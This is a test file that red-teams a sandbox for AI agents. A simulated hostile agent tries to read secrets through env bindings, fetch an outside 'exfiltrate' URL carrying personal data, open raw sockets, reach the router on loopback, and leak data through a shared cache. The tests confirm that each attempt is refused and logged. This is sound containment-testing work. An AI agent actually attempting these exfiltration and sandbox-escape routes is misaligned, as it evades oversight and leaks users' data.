import { describe, expect, it } from "vitest";
import { AGENT_MODES } from "../src/contracts/cell.ts";
import { attack } from "./support/redteam.ts";
import { useSystem } from "./support/system.ts";

// The same attacks from inside the cell in every mode: service (a Worker per
// agent, Miniflare's outboundService), loader (Worker Loader, globalOutbound)
// and namespace (a stand-in dispatch namespace with the guard as outbound).
describe.each(AGENT_MODES)("%s mode: an agent can reach nothing but the proxy", (mode) => {
  const t = useSystem({ agentMode: mode });
  const task = (n: number) => `tsk_${mode.padEnd(6, "0").slice(0, 6)}egr${String(n).padStart(3, "0")}`;
  // Service mode wires the guard per agent Worker, not per task: its rows name no task (docs/egress.md).
  const taskOf = (id: string) => (mode === "service" ? null : id);

  attack(
    {
      surface: "cell",
      class: "rpc-surface",
      tries: `reach D1, the router, another agent or a secret through env (${mode})`,
      evidence: "env holds PROXY at most",
    },
    async () => {
      const seen = await t.hostile({ attack: "env" }, task(1));
      // Namespace mode: the user Worker has no bindings at all; the proxy door arrives with each call.
      expect(seen.keys).toEqual(mode === "namespace" ? [] : ["PROXY"]);
    },
  );

  attack(
    {
      surface: "cell",
      class: "egress",
      tries: `fetch() a host on the internet (${mode})`,
      evidence: "denied by the egress guard, egress.denied row with agent and task",
    },
    async () => {
      const before = (await t.audit()).length;
      const res = await t.hostile({ attack: "fetch", url: "https://example.com/exfiltrate?data=[NAME_1]" }, task(2));
      expect(res).toMatchObject({ ok: true, value: { status: 403 } });
      expect(JSON.parse(res.value.body)).toMatchObject({ error: "egress_denied" });
      const rows = (await t.audit()).slice(before);
      expect(rows).toContainEqual(
        expect.objectContaining({
          taskId: taskOf(task(2)),
          actor: "agent:hostile-agent",
          event: "egress.denied",
          decision: "refused",
          reason: "egress_denied",
          detail: { method: "GET", host: { chars: 11, sha256: expect.any(String) }, scheme: "https:" },
        }),
      );
      // Neither the query string nor the host the agent chose is copied into the log (a digest of the host is).
      expect(JSON.stringify(rows)).not.toContain("exfiltrate");
      expect(JSON.stringify(rows)).not.toContain("example.com");
    },
  );

  attack(
    {
      surface: "cell",
      class: "egress",
      tries: `fetch() the router on loopback (${mode})`,
      evidence: "denied, no router response",
    },
    async () => {
      const res = await t.hostile({ attack: "fetch", url: `${t.sys.url.href}healthz` }, task(3));
      expect(res.value.status).toBe(403);
      expect(JSON.parse(res.value.body).error).toBe("egress_denied");
    },
  );

  attack(
    {
      surface: "cell",
      class: "egress",
      tries: `open a raw TCP socket with connect() (${mode})`,
      evidence: "closed, egress.denied rows",
    },
    async () => {
      const before = (await t.audit()).length;
      for (const target of [`127.0.0.1:${t.sys.url.port}`, "example.com:80"]) {
        const res = await t.hostile({ attack: "connect", url: target }, task(4));
        // Either the runtime refuses outright, or the guard closes the socket before a byte is read.
        if (res.ok) expect(res.value.read ?? "").toBe("");
        else expect(res.thrown).toMatch(/cannot connect|closed|reset|connection lost/i);
      }
      const denied = (await t.audit()).slice(before).filter((e) => e.event === "egress.denied");
      expect(denied).toContainEqual(
        expect.objectContaining({
          taskId: taskOf(task(4)),
          actor: "agent:hostile-agent",
          detail: expect.objectContaining({ method: "CONNECT" }),
        }),
      );
    },
  );

  attack(
    {
      surface: "cell",
      class: "egress",
      tries: `leave data in the cache for another agent or task (${mode})`,
      evidence: "the next agent and the next task find nothing",
    },
    async () => {
      const url = `https://cache.siloos.test/${mode}`;
      await t.hostile({ attack: "cache-put", url, op: "[NAME_1] lives at [ADDRESS_1]" }, task(5));
      const otherAgent = await t.hostile({ attack: "cache-get", url }, task(5), "puppet-agent");
      const otherTask = await t.hostile({ attack: "cache-get", url }, task(6));
      for (const res of [otherAgent, otherTask]) {
        // No cache at all (the runtime throws) or one that keeps nothing: either way no hit.
        expect(res.ok ? res.value.hit : null).toBeNull();
      }
    },
  );

  attack(
    {
      surface: "cell",
      class: "rpc-surface",
      tries: `call router-only RouterGate methods on PROXY (${mode})`,
      evidence: "methods absent on the agent entrypoint",
    },
    async () => {
      const res = await t.hostile({ attack: "router-gate" }, task(7));
      expect(res.ok).toBe(false);
      expect(res.thrown).toMatch(/closeTask/);
    },
  );

  it("can reach the proxy, which answers every unauthenticated call with a refusal", async () => {
    const res = await t.hostile({ attack: "call", op: "whoami" }, task(8));
    expect(res).toMatchObject({ ok: false, error: "key_missing" });
    expect((await t.audit()).filter((e) => e.taskId === null).at(-1)).toMatchObject({
      actor: "agent:hostile-agent",
      decision: "refused",
      reason: "key_missing",
    });
  });
});
